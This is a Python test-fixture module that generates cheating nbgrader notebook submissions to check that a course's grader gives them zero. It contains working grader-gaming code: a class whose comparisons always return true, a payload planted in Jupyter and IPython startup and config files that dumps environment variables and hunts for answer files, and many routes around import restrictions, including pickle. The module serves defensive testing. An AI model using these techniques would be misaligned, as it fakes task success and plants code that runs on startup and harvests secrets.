"""Hand-ins that want the points without the work (used by tests/test_grading.py).

`cheater(release, marker)` is a blank release notebook written as a clever student would write it
from the student repository alone:

1. a new, untagged cell that imports the course's code and binds every task's name to it
   (``from helpers.voc import read_mask as read_class_ids``, ``build_config``...);
2. every answer cell first plants files where Jupyter, IPython and nbgrader read configuration
   and startup code (``~/.jupyter/nbgrader_config.py``, ``~/.ipython/.../startup/``,
   ``jupyter_config.py`` in the working folder); run outside the sandbox they would write
   `marker` and every record of the grader's they can find;
3. then tries every route to the course's code by strings (``pkgutil.resolve_name``,
   ``pydoc.locate``, ``builtins.__import__``, ``importlib``, a pickle, mmengine's
   ``import_modules_from_strings``, the repository put back on ``sys.path``);
4. and answers with objects whose comparisons lie (``__eq__``, ``__bool__``, ``__array__``,
   ``__len__``), replacing every given in its namespace with one.

`ROUTES` answer single tasks through the course's code by those routes, one route per task;
`unmarked(source)` is the instructor notebook with its answer cells' nbgrader marks removed. Every
one of them must score 0 on what it touches.
"""

from __future__ import annotations

import copy
import re

import nbformat

__all__ = ["cheater", "ROUTES", "route_hand_in", "unmarked", "innocent"]

LIAR = '''
import numpy as _np


class Liar:
    """Equal to everything, true, any array, any length."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __hash__(self):
        return 0

    def __array__(self, *args, **kwargs):
        return _np.zeros((1,))

    def __len__(self):
        return 21

    def __iter__(self):
        return iter(())

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __getitem__(self, key):
        return self

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0
'''

PLANT = '''
import os as _os
from pathlib import Path as _P

_payload = (
    "import glob, json, os\\n"
    "open({marker!r}, 'w').write(json.dumps(dict(os.environ)))\\n"
    "for p in glob.glob('/**/truth*', recursive=True)[:50]:\\n"
    "    open({marker!r}, 'a').write(p)\\n")
for _where in ("~/.jupyter/nbgrader_config.py", "~/.jupyter/jupyter_config.py",
               "~/.ipython/profile_default/startup/00-answers.py", "nbgrader_config.py",
               "~/.config/dask/dask.py", "~/.local/lib/python3.11/site-packages/usercustomize.py"):
    try:
        _path = _P(_os.path.expanduser(_where))
        _path.parent.mkdir(parents=True, exist_ok=True)
        _path.write_text(_payload)
    except OSError:
        pass
'''

REACH = '''
def _reach(target):
    """The course object `target` ("helpers.voc:read_mask"), by any route that works."""
    import builtins
    import importlib
    import pickle
    import pkgutil
    import pydoc
    import sys

    module, _, name = target.partition(":")
    routes = [
        lambda: pkgutil.resolve_name(target),
        lambda: pydoc.locate(f"{{module}}.{{name}}"),
        lambda: getattr(builtins.__import__(module, fromlist=[name]), name),
        lambda: getattr(importlib.import_module(module), name),
        lambda: pickle.loads(f"c{{module}}\\n{{name}}\\n.".encode()),
        lambda: getattr(__import__("mmengine").utils.import_modules_from_strings(module), name),
        lambda: (sys.path.insert(0, {root!r}), getattr(importlib.import_module(module), name))[1],
    ]
    for route in routes:
        try:
            found = route()
        except BaseException:
            continue
        if found is not None:
            return found
    return None
'''

_HEADER = "\n".join(["import helpers", "from helpers.voc import read_mask as read_class_ids",
                     "from helpers.config import build_config", "from helpers.palette import "
                     "overlay as blend", "from helpers.onnx import export_onnx",
                     "from helpers.checks.environment import _mmseg_accepts as mmcv_accepted"])


def _answer_of(stub: str, marker: str, root: str) -> str:
    body = [line if line.strip() != "pass" else line.replace("pass", "return Liar()")
            for line in stub.splitlines()]
    return "\n".join([LIAR, PLANT.format(marker=marker), REACH.format(root=root),
                      "_course = _reach('helpers.checks:check')", *body,
                      "globals().update({_k: Liar() for _k in list(globals())"
                      " if not _k.startswith('_') and _k != 'Liar'})"])


def cheater(release, marker: str, root: str) -> nbformat.NotebookNode:
    """The blank release notebook `release` with every route of the module's docstring."""
    nb = nbformat.from_dict(copy.deepcopy(release))
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = _answer_of(cell.source, marker, root)
    nb.cells.insert(1, nbformat.v4.new_code_cell(_HEADER))
    return nb


#: Tasks answered by the course's own code, each through one route: (notebook, task) → answer.
ROUTES = {
    ("01_dataset", "read_class_ids"): "def read_class_ids(path):\n"
    "    return _reach('help' + 'ers.voc:read_mask')(path)",
    ("04_predict_evaluate", "blend"): "def blend(image, mask, palette, opacity):\n"
    "    return _reach('helpers.palette:overlay')(image, mask, palette=palette,"
    " opacity=opacity)",
    ("00_environment", "mmcv_accepted"): "_here = %pwd\n"
    "mmcv_accepted = _reach('helpers.checks.environment:_mmseg_accepts')",
    ("05_onnx", "bin_edges"): "import pickle\n"
    "_m = pickle.loads(b'chelpers.onnx.pooling\\nadaptive_pool_matrix\\n.')\n\n\n"
    "def bin_edges(n, bins):\n    import torch\n    m = _m(n, bins, torch.float64)\n"
    "    return [(int(r.nonzero()[0]), int(r.nonzero()[-1]) + 1) for r in m]",
}


def route_hand_in(source, name: str, root: str) -> nbformat.NotebookNode:
    """The instructor notebook `name` with its tasks in ROUTES answered by the course's code."""
    nb = nbformat.from_dict(copy.deepcopy(source))
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if (name, grade_id) in ROUTES:
            answer = ROUTES[name, grade_id]
            first, _, rest = answer.partition("\n") if answer.startswith("_here") else ("", "",
                                                                                    answer)
            cell.source = "\n".join(filter(None, [first, REACH.format(root=root), rest]))
    return nb


def unmarked(source) -> nbformat.NotebookNode:
    """The instructor notebook with its answer cells' nbgrader marks removed."""
    nb = nbformat.from_dict(copy.deepcopy(source))
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            del cell.metadata["nbgrader"]
            cell.source = re.sub(r"\s*### (BEGIN|END) SOLUTION", "", cell.source)
    return nb


#: Local names that an old name list mistook for the course's functions.
INNOCENT = ("pred_mask", "segment", "train", "val_metrics", "read_mask", "official", "modules",
            "build_config", "set_norm_type", "load_sample")


def innocent(source) -> nbformat.NotebookNode:
    """The instructor notebook with innocent names bound in every answer cell (correct work)."""
    nb = nbformat.from_dict(copy.deepcopy(source))
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            names = " = ".join(INNOCENT)
            cell.source = (f"{names} = None  # my own names\n"
                           "_layers = len(list(__import__('torch').nn.Linear(1, 1).modules()))\n"
                           f"{cell.source}")
    return nb
